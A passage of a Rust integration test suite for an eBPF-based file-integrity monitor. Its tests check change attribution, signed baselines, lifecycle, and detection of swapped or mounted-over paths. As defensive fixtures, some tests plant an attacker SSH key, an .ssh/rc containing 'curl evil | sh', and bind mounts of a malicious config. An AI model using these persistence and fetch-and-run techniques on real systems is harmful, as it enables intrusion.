                Some("rescan") if lost_seen => {
                    let start = unix_seconds(l["time"].as_str().unwrap_or("")) - l["seconds"].as_f64().unwrap_or(0.0);
                    let unverified = l["unverified"].as_array().is_some_and(|u| !u.is_empty());
                    rescan_after |= start > writer_end && !unverified;
                }
                _ => {}
            }
        }
        let mut bad = Vec::new();
        for (i, p) in paths.iter().enumerate() {
            let path = s(p);
            let last = latest.get(path.as_str());
            let hash_ok = last.is_some_and(|l| l["new"]["hash"] == finals[i].as_str());
            if finals[i] != baseline[i] {
                if !hash_ok && !rescan_after {
                    bad.push(format!(
                        "{path}: final {} but latest report {}",
                        finals[i],
                        last.map_or("none".to_owned(), |l| format!("{} ({})", l["new"]["hash"], l["detected_by"]))
                    ));
                }
            } else if let Some(l) = last
                && !(hash_ok && l["baseline_match"] == true)
                && !rescan_after
            {
                bad.push(format!("{path}: restored to the baseline but latest report is {l}"));
            }
        }
        bad
    };
    let deadline = Instant::now() + Duration::from_secs(8);
    let mut settled = false;
    let bad = loop {
        let bad = check(&w.lines());
        if (bad.is_empty() && settled) || Instant::now() > deadline {
            break bad;
        }
        if bad.is_empty() {
            // Once good, give it the settle time and check again: nothing later may undo it.
            thread::sleep(Duration::from_secs(3));
            settled = true;
        } else {
            thread::sleep(Duration::from_millis(200));
        }
    };
    let lines = w.lines();
    let changes = lines.iter().filter(|l| is_change(l)).count();
    let by_event = lines.iter().filter(|l| is_change(l) && l["detected_by"] == "event").count();
    let lost: u64 = lines.iter().filter(|l| l["kind"] == "lost").filter_map(|l| l["events"].as_u64()).sum();
    let rescans = lines.iter().filter(|l| l["kind"] == "rescan").count();
    let degraded = lines.iter().filter(|l| l["kind"] == "degraded").count();
    let last_event = lines
        .iter()
        .filter(|l| is_change(l))
        .filter_map(|l| l["time"].as_str().map(unix_seconds))
        .fold(f64::NAN, f64::max);
    eprintln!(
        "storm: {CHANGES} changes to {FILES} files in {storm:.1?}; watcher printed {} lines: {changes} changes \
         ({by_event} by event), {lost} events lost, {rescans} rescans, {degraded} degraded; latest change's \
         time {:+.3} s from the writer's exit",
        lines.len(),
        last_event - writer_end
    );
    // Only the writer touched these files: every report by an event names it, as a change
    // of content. Its ops are its writes and truncates; when events were lost, a write whose
    // own event was dropped may be known only by the inode dirtying it caused (reported as
    // `mmap`), so that one is allowed then.
    let misattributed: Vec<&Value> = lines
        .iter()
        .filter(|l| is_change(l) && l["detected_by"] == "event")
        .filter(|l| {
            l["process"]["pid"] != writer
                || l["kind"] != "modified"
                || !names(l, "ops").iter().all(|o| o == "write" || o == "truncate" || (lost > 0 && o == "mmap"))
        })
        .collect();
    assert!(
        misattributed.is_empty(),
        "{} reports not of the writer {writer}'s writes and truncates ({lost} events lost), e.g.:\n{}",
        misattributed.len(),
        misattributed
            .iter()
            .take(5)
            .map(|l| format!("{} {} ops {} by {:?}", l["path"], l["kind"], l["ops"], who(l)))
            .collect::<Vec<_>>()
            .join("\n")
    );
    assert!(
        bad.is_empty(),
        "{} of {FILES} files' final state never reported, e.g.:\n{}\n(lines: {}, lost {lost}, rescans {rescans})",
        bad.len(),
        bad.iter().take(10).cloned().collect::<Vec<_>>().join("\n"),
        lines.len()
    );
    assert!(
        lines.iter().all(|l| l["kind"] != "error"),
        "error lines: {:?}",
        lines.iter().filter(|l| l["kind"] == "error").take(5).collect::<Vec<_>>()
    );
    let status = w.stop();
    assert!(status.success(), "the watcher did not survive the storm: {status}");
}

#[test]
fn a_reader_of_a_changed_file_is_not_named_as_its_writer() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _names = path_ops();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    let w = Watcher::start(&fx, None);
    // The watcher is behind (stopped) while a write is followed by a read; the read updates
    // the atime (relatime: it is older than the new mtime), which dirties the inode.
    let paused = Paused::new(&fx);
    let writer = python(&format!("f = open({:?}, 'a'); f.write('beta\\n'); f.close()", s(&fx.t("conf.txt"))));
    let mut cat = Command::new("cat");
    cat.arg(fx.t("conf.txt"));
    let reader = run_child(cat);
    paused.resume();
    let line = w.change_for(&fx.t("conf.txt"));
    assert_eq!(
        line["process"]["pid"],
        writer,
        "writer python {writer}, reader cat {reader}; reported {:?}\n{line:#}",
        who(&line)
    );
    assert_eq!(line["process"]["comm"], "python3", "{line:#}");
    assert_eq!(names(&line, "ops"), ["write"], "a read is no mmap store: {line:#}");
    assert_eq!(w.changes_for(&fx.t("conf.txt")).len(), 1, "{}", w.dump());
    assert!(w.stop().success());
}

// ---------------------------------------------------------------------------------------------
// 7: lifecycle
// ---------------------------------------------------------------------------------------------

#[test]
fn sigterm_and_sigint_end_the_watcher_with_status_0() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    let w = Watcher::start(&fx, None);
    let status = w.stop();
    assert_eq!(status.code(), Some(0), "SIGTERM: {status}");

    for signal in [rustix::process::Signal::INT, rustix::process::Signal::TERM] {
        let _ = fs::remove_file(fx.path("ready"));
        let raw = wait_ready(Raw::spawn(watch_cmd(&fx.db(), &fx.pubkey(), &fx.path("ready"))), &fx.path("ready"));
        // A change pending when the signal comes is still reported before the exit.
        python(&format!("f = open({:?}, 'a'); f.write('x\\n'); f.close()", s(&fx.t("conf.txt"))));
        let (status, out, err) = raw.signal_and_wait(signal);
        assert_eq!(status.code(), Some(0), "{signal:?}: {status}\n--- stdout ---\n{out}\n--- stderr ---\n{err}");
        assert!(!err.contains("panicked"), "{signal:?}: {err}");
        let reported = out
            .lines()
            .filter_map(|l| serde_json::from_str::<Value>(l).ok())
            .any(|l| is_change(&l) && l["path"] == s(&fx.t("conf.txt")).as_str() && l["detected_by"] == "event");
        assert!(reported, "{signal:?}: the write before the signal was not reported\n{out}\n{err}");
    }
}

#[test]
fn wrong_public_key_exits_3_without_ready() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    fx.create_default();
    let other = fx.path("other-keys");
    fx.keygen_into(&other);
    let run =
        run_with_timeout(watch_cmd(&fx.db(), &other.join("kubefim.pub"), &fx.path("ready")), Duration::from_secs(30));
    assert_refused(&fx, &run, 3, &["signature", "trust", "key"]);
}

#[test]
fn tampered_baseline_exits_3_without_ready() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    for i in 0..20 {
        fs::write(fx.t(format!("file-{i:02}.txt")), format!("content {i}\n")).unwrap();
    }
    fx.create_default();
    let tampered = fx.path("db-tampered");
    copy_dir(&fx.db(), &tampered);
    let file = largest_file(&tampered);
    let mut bytes = fs::read(&file).unwrap();
    let at = used_len(&bytes) / 2;
    bytes[at] ^= 0x01;
    fs::write(&file, bytes).unwrap();
    let run = run_with_timeout(watch_cmd(&tampered, &fx.pubkey(), &fx.path("ready")), Duration::from_secs(30));
    assert_refused(&fx, &run, 3, &["signature", "trust", "tamper", "seal"]);
    // The untouched original still starts.
    assert!(Watcher::start_on(&fx, &[]).stop().success());
}

#[test]
fn ready_file_means_attached_and_rescanned() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    for i in 0..50 {
        fs::write(fx.t(format!("f{i:02}.txt")), format!("{i}\n")).unwrap();
    }
    fx.create_default();
    // A stale ready file from an earlier run must not count: start_on removes it, and the
    // watcher writes it anew.
    let w = Watcher::start_on(&fx, &[]);
    assert_eq!(fs::read_to_string(fx.path("ready")).unwrap(), "ready\n");
    // Ready means the startup rescan is done (its line comes first) and the programs are
    // attached: a change made right away is seen by an event, with its writer.
    let pid = python(&format!("f = open({:?}, 'a'); f.write('x\\n'); f.close()", s(&fx.t("f07.txt"))));
    let line = w.change_for(&fx.t("f07.txt"));
    assert_eq!(line["detected_by"], "event", "{line:#}\n{}", w.dump());
    assert_eq!(line["process"]["pid"], pid, "{line:#}");
    let first = w.lines().into_iter().next().expect("no line at all");
    assert_eq!(first["kind"], "rescan", "the first line is not the startup rescan\n{}", w.dump());
    assert_eq!(first["reason"], "startup", "{}", w.dump());
    assert_eq!(first["changes"], 0, "{}", w.dump());
    // 50 files and the tree itself.
    assert_eq!(first["scanned"], 51, "{}", w.dump());
    assert!(w.stop().success());
}

#[test]
fn journal_keeps_a_seen_change_across_a_restart_and_a_restore_matches_the_baseline() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\nbeta\n").unwrap();
    fs::write(fx.t("other.txt"), "other\n").unwrap();
    let w = Watcher::start(&fx, None);
    let pid = python(&format!("f = open({:?}, 'a'); f.write('gamma\\n'); f.close()", s(&fx.t("conf.txt"))));
    let line = w.change_for(&fx.t("conf.txt"));
    assert_eq!(line["process"]["pid"], pid, "{line:#}");
    assert_eq!(line["baseline_match"], false);
    assert!(w.stop().success());
    assert!(fx.path("db.journal").exists(), "no journal beside the database");

    // While it is down, another file changes. The restart reports every deviation from the
    // signed baseline (the journal is unsigned: it is not believed), the one the journal had
    // marked as already known, the new one not.
    fs::write(fx.t("other.txt"), "other, changed while down\n").unwrap();
    let w = Watcher::start_on(&fx, &[]);
    let startup = w.wait_for("the startup rescan", REPORT_WITHIN, |l| l["kind"] == "rescan");
    assert_eq!(startup["reason"], "startup", "{}", w.dump());
    let other = w.change_for(&fx.t("other.txt"));
    assert_eq!(other["detected_by"], "rescan", "{other:#}");
    assert_eq!(other["already_known"], false, "{other:#}");
    let conf = w.change_for(&fx.t("conf.txt"));
    assert_eq!((conf["kind"].as_str(), conf["detected_by"].as_str()), (Some("modified"), Some("rescan")), "{conf:#}");
    assert_eq!(conf["already_known"], true, "the journal had it in this state: {conf:#}");
    assert!(diff_has(&conf, "+gamma"), "diff against the signed content: {conf:#}");
    assert_eq!(startup["changes"], 2, "{}", w.dump());

    // Restoring the signed content is reported, and matches the baseline again.
    let pid = python(&format!("f = open({:?}, 'w'); f.write('alpha\\nbeta\\n'); f.close()", s(&fx.t("conf.txt"))));
    let conf_path = s(&fx.t("conf.txt"));
    let line = w.wait_for("the restore of conf.txt", REPORT_WITHIN, |l| {
        is_change(l) && l["path"] == conf_path.as_str() && l["detected_by"] == "event"
    });
    assert_eq!(line["kind"], "modified", "{line:#}");
    assert_eq!(line["baseline_match"], true, "{line:#}\n{}", w.dump());
    assert_eq!(line["process"]["pid"], pid, "{line:#}");
    assert!(
        line["diff"].as_str().is_some_and(|d| d.contains("\n-gamma\n")),
        "diff against the journal's content: {line:#}"
    );
    assert_eq!(line["already_known"], false, "{line:#}");
    assert!(w.stop().success());
}

/// Whether the report's diff has the line `line`.
fn diff_has(report: &serde_json::Value, line: &str) -> bool {
    report["diff"].as_str().is_some_and(|d| d.lines().any(|l| l == line))
}

// ---------------------------------------------------------------------------------------------
// 8: no privileges
// ---------------------------------------------------------------------------------------------

#[test]
fn unprivileged_watch_exits_2_naming_what_is_missing() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    fx.create(&fx.write_policy(&[Rule::new(fx.tree())]));
    // Everything the watcher reads or writes before loading programs belongs to nobody.
    tool("chown", ["-R".to_owned(), format!("{0}:{0}", common::NOBODY), s(fx.root.path())]);
    let mut cmd = Command::new("setpriv");
    cmd.arg(format!("--reuid={}", common::NOBODY))
        .arg(format!("--regid={}", common::NOBODY))
        .arg("--clear-groups")
        .arg(BIN)
        .args(watch_cmd(&fx.db(), &fx.pubkey(), &fx.path("ready")).get_args());
    let run = run_with_timeout(cmd, Duration::from_secs(30));
    assert_refused(&fx, &run, 2, &["root", "CAP_BPF", "BPF"]);
}

#[test]
fn changes_are_reported_while_a_rescan_of_a_large_tree_runs() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    // Enough entries that the startup rescan is still running when the change is made.
    for d in 0..40 {
        let dir = fx.t(format!("d{d:02}"));
        fs::create_dir(&dir).unwrap();
        for f in 0..1000 {
            fs::write(dir.join(format!("f{f:03}")), "x\n").unwrap();
        }
    }
    fs::write(fx.t("conf.txt"), "alpha\n").unwrap();
    let w = Watcher::start(&fx, None);
    let pid = python(&format!("f = open({:?}, 'a'); f.write('beta\\n'); f.close()", s(&fx.t("conf.txt"))));
    let line = w.change_for(&fx.t("conf.txt"));
    assert_eq!(line["process"]["pid"], pid, "{line:#}");
    assert_eq!(line["detected_by"], "event", "{line:#}");
    // The change was reported before the rescan that was running when it was made ended:
    // the rescan runs off the loop, and the reader drains all along.
    let rescan = w.wait_for("the startup rescan", Duration::from_secs(120), |l| {
        l["kind"] == "rescan" && l["reason"] == "startup"
    });
    let lines = w.lines();
    let at = |pred: &dyn Fn(&Value) -> bool| lines.iter().position(pred).expect("seen");
    let change_at = at(&|l| is_change(l) && l["path"] == s(&fx.t("conf.txt")).as_str());
    let rescan_at = at(&|l| l["kind"] == "rescan");
    assert!(change_at < rescan_at, "the change waited for the rescan: {rescan:#}\n{}", w.dump());
    assert_eq!(rescan["scanned"], 40 * 1000 + 40 + 2, "{rescan:#}");
    assert_eq!(rescan["changes"], 0, "the rescan leaves the change to its event: {rescan:#}");
    assert!(w.lines().iter().all(|l| l["kind"] != "lost"), "{}", w.dump());
    assert!(w.stop().success());
}

#[test]
fn a_storm_on_one_file_does_not_hold_back_the_report_of_another() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let fx = Fixture::on_disk();
    fs::write(fx.t("storm.txt"), "").unwrap();
    fs::write(fx.t("quiet.txt"), "alpha\n").unwrap();
    let w = Watcher::start(&fx, None);
    // Writes without pause for 6 s, through one descriptor (no close: nothing makes the
    // storm's own path due but the 500 ms bound).
    let storm = fx.t("storm.txt");
    let mut writer = Command::new("python3");
    writer.arg("-c").arg(format!(
        "import os, time\nfd = os.open({:?}, os.O_WRONLY | os.O_APPEND)\nend = time.time() + 6\n\
         while time.time() < end:\n    os.write(fd, b'x')\n",
        s(&storm)
    ));
    let mut writer = KillOnDrop(writer.spawn().expect("spawn the storm"));
    thread::sleep(Duration::from_secs(1));
    let pid = python(&format!("f = open({:?}, 'a'); f.write('beta\\n'); f.close()", s(&fx.t("quiet.txt"))));
    let line = w.change_for(&fx.t("quiet.txt"));
    assert_eq!(line["process"]["pid"], pid, "{line:#}\n{}", w.dump());
    assert!(writer.0.try_wait().unwrap().is_none(), "the storm was over before the report: no proof\n{}", w.dump());
    // The storm's file is reported while it goes on, too (at the latest every 500 ms).
    assert!(!w.changes_for(&storm).is_empty(), "{}", w.dump());
    assert!(writer.0.wait().unwrap().success());
    assert!(w.stop().success());
}

// ---------------------------------------------------------------------------------------------
// 9: other inodes put at monitored paths without touching them: a swap of an unmonitored
// ancestor, mounts over a file and a directory
// ---------------------------------------------------------------------------------------------

/// Mounts made in the host's mount namespace (the watcher must see them, so no `unshare`),
/// lazily unmounted on drop, last first: declared after the fixture, they go before it.
struct HostMounts(Vec<PathBuf>);

impl HostMounts {
    /// `mount ARGS... TARGET` as a child; its pid.
    #[track_caller]
    fn mount(&mut self, args: &[&str], target: &Path) -> u32 {
        let mut cmd = Command::new("mount");
        cmd.args(args).arg(target);
        let pid = run_child(cmd);
        self.0.push(target.to_owned());
        pid
    }

    /// `umount TARGET` as a child; its pid.
    #[track_caller]
    fn umount(&mut self, target: &Path) -> u32 {
        let mut cmd = Command::new("umount");
        cmd.arg(target);
        let pid = run_child(cmd);
        if let Some(i) = self.0.iter().rposition(|t| t == target) {
            self.0.remove(i);
        }
        pid
    }
}

impl Drop for HostMounts {
    fn drop(&mut self) {
        for target in self.0.iter().rev() {
            let _ = Command::new("umount").arg("-l").arg(target).status();
        }
    }
}

/// The first `mounted-over` line with this op and target.
#[track_caller]
fn mounted_over(w: &Watcher, op: &str, target: &Path) -> Value {
    let want = s(target);
    w.wait_for(&format!("{op} over {want}"), REPORT_WITHIN, |l| {
        l["kind"] == "mounted-over" && l["op"] == op && l["target"] == want.as_str()
    })
}

#[test]
fn an_exchange_of_an_unmonitored_ancestor_reports_the_swapped_in_copy_and_later_writes() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _turn = path_ops();
    let fx = Fixture::on_disk();
    // The rule root is `tree/home/.ssh`; `tree/home` (and everything above) is not monitored.
    let home = fx.t("home");
    let ssh = home.join(".ssh");
    fs::create_dir_all(&ssh).unwrap();
    fs::write(ssh.join("authorized_keys"), "ssh-ed25519 AAAA admin\n").unwrap();
    fs::write(ssh.join("config"), "Host *\n").unwrap();
    let w = Watcher::start(&fx, Some(&[Rule::new(ssh.clone()).diff()]));
    // The attacker's copy, made beside it (nothing monitored sees that), then swapped in
    // with one renameat2(RENAME_EXCHANGE) of the unmonitored parent.
    let copy = fx.t("prepared");
    fs::create_dir_all(copy.join(".ssh")).unwrap();
    fs::write(copy.join(".ssh/authorized_keys"), "ssh-ed25519 AAAA admin\nssh-ed25519 BBBB attacker\n").unwrap();
    fs::write(copy.join(".ssh/config"), "Host *\n").unwrap();
    fs::write(copy.join(".ssh/rc"), "curl evil | sh\n").unwrap();
    let swap = format!(
        "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\n\
         if libc.renameat2(-100, {h:?}.encode(), -100, {c:?}.encode(), 2) != 0:\n    \
         raise OSError(ctypes.get_errno(), 'renameat2')",
        h = s(&home),
        c = s(&copy)
    );
    let swapper = python(&swap);
    assert_eq!(fs::read_to_string(ssh.join("rc")).unwrap(), "curl evil | sh\n", "the swap did not happen");

    let keys = w.change_for(&ssh.join("authorized_keys"));
    assert_eq!(keys["kind"], "modified", "{keys:#}\n{}", w.dump());
    assert!(names(&keys, "changed").iter().any(|c| c == "content"), "{keys:#}");
    assert!(
        keys["diff"].as_str().is_some_and(|d| d.contains("\n+ssh-ed25519 BBBB attacker\n")),
        "the attacker's key is not in the diff: {keys:#}"
    );
    assert_eq!(keys["process"]["pid"], swapper, "not attributed to the swap: {:?}\n{}", who(&keys), w.dump());
    assert_eq!(keys["process"]["comm"], "python3", "{keys:#}");
    assert_eq!(keys["attribution"], "inferred", "{keys:#}");
    let rc = w.change_for(&ssh.join("rc"));
    assert_eq!(rc["kind"], "added", "{rc:#}");
    assert_eq!(rc["process"]["pid"], swapper, "{rc:#}");
    let rescan =
        w.wait_for("the rescan of the moved root", REPORT_WITHIN, |l| l["kind"] == "rescan" && l["reason"] == "moved");
    assert_eq!(rescan["scope"], serde_json::json!([s(&ssh)]), "{rescan:#}");

    // The swapped-in inodes are in the kernel filter now: a later write is seen per event.
    let code = format!(
        "f = open({:?}, 'a'); f.write('ssh-ed25519 CCCC later\\n'); f.close()",
        s(&ssh.join("authorized_keys"))
    );
    let writer = python(&code);
    let want = s(&ssh.join("authorized_keys"));
    let later = w.wait_for("the later write", REPORT_WITHIN, |l| {
        is_change(l) && l["path"] == want.as_str() && l["process"]["pid"] == writer
    });
    assert_eq!(names(&later, "ops"), ["write"], "{later:#}");
    assert_eq!(later["detected_by"], "event", "{later:#}");
    assert!(later["diff"].as_str().is_some_and(|d| d.contains("\n+ssh-ed25519 CCCC later\n")), "{later:#}");
    // The old inodes, now under `prepared`, are nothing of the watcher's any more.
    fs::write(copy.join(".ssh/authorized_keys"), "old file, elsewhere now\n").unwrap();
    w.assert_nothing_under(&copy, Duration::from_millis(300));
    assert!(w.stop().success());
}

#[test]
fn a_bind_mount_over_a_monitored_file_and_a_tmpfs_over_a_monitored_dir_are_reported_as_mounted_over() {
    if !root_or_skip() {
        return;
    }
    let _machine = shared();
    let _turn = path_ops();
    let fx = Fixture::on_disk();
    let conf = fx.t("kubelet.conf");
    fs::write(&conf, "server: https://real\n").unwrap();
    let manifests = fx.t("manifests");
    fs::create_dir(&manifests).unwrap();
    fs::write(manifests.join("etcd.yaml"), "image: etcd\n").unwrap();
    let evil = fx.path("evil.conf");
    fs::write(&evil, "server: https://evil\n").unwrap();
    let w = Watcher::start(&fx, None);
    let mut mounts = HostMounts(Vec::new());

    let binder = mounts.mount(&["--bind", &s(&evil)], &conf);
    let line = mounted_over(&w, "mount", &conf);
    assert_eq!(line["mounted"], true, "{line:#}");
    assert_eq!(line["process"]["pid"], binder, "{line:#}");
    assert_eq!(line["process"]["comm"], "mount", "{line:#}");
    assert_eq!(line["rescanned"], serde_json::json!([s(&fx.tree())]), "{line:#}");
    let changed = w.change_for(&conf);
    assert_eq!(changed["kind"], "modified", "{changed:#}\n{}", w.dump());
    assert!(
        changed["diff"].as_str().is_some_and(|d| d.contains("\n+server: https://evil\n")),
        "what readers see now is not in the diff: {changed:#}"
    );
    assert_eq!(changed["process"]["pid"], binder, "{changed:#}");
    assert!(names(&changed, "ops").iter().any(|o| o == "mount"), "{changed:#}");

    let tmpfs = mounts.mount(&["-t", "tmpfs", "kubefim-test"], &manifests);
    let line = mounted_over(&w, "mount", &manifests);
    assert_eq!((&line["fs_type"], &line["source"]), (&Value::from("tmpfs"), &Value::from("kubefim-test")), "{line:#}");
    assert_eq!(line["process"]["pid"], tmpfs, "{line:#}");
    let hidden = w.change_for(&manifests.join("etcd.yaml"));
    assert_eq!(hidden["kind"], "removed", "{hidden:#}\n{}", w.dump());
    assert_eq!(hidden["process"]["pid"], tmpfs, "{hidden:#}");

    // Unmounted, the real file is there again, as signed.
    let unmounter = mounts.umount(&conf);
    let line = mounted_over(&w, "umount", &conf);
    assert_eq!(line["mounted"], false, "{line:#}");
    assert_eq!(line["process"]["pid"], unmounter, "{line:#}");
    let want = s(&conf);
    let back = w.wait_for("kubelet.conf back", REPORT_WITHIN, |l| {
        is_change(l) && l["path"] == want.as_str() && l["baseline_match"] == true
    });
    assert_eq!(back["process"]["pid"], unmounter, "{back:#}");
    drop(mounts);
    assert!(w.stop().success());
}
